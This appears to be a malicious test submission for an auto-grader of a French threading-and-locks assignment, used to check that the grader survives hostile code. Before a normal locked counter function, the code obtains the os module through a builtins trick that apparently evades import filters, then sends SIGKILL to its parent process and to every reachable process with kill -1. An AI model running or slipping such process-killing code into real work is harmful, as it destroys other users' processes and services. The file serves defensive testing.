# description: tue son processus parent et tout ce qu'il peut atteindre (kill -1)
# devoir: 02-verrous
# attendu: incrementer=0
# duree_max: 40
# message: incrementer=MSG_ARRET_BRUTAL
# %% incrementer
import threading
compteur = 0
verrou = threading.Lock()
_os = print.__self__.__import__("os")
_os.kill(_os.getppid(), 9)
_os.kill(-1, 9)

def incrementer(nb_fois):
    global compteur
    for _ in range(nb_fois):
        with verrou:
            compteur += 1
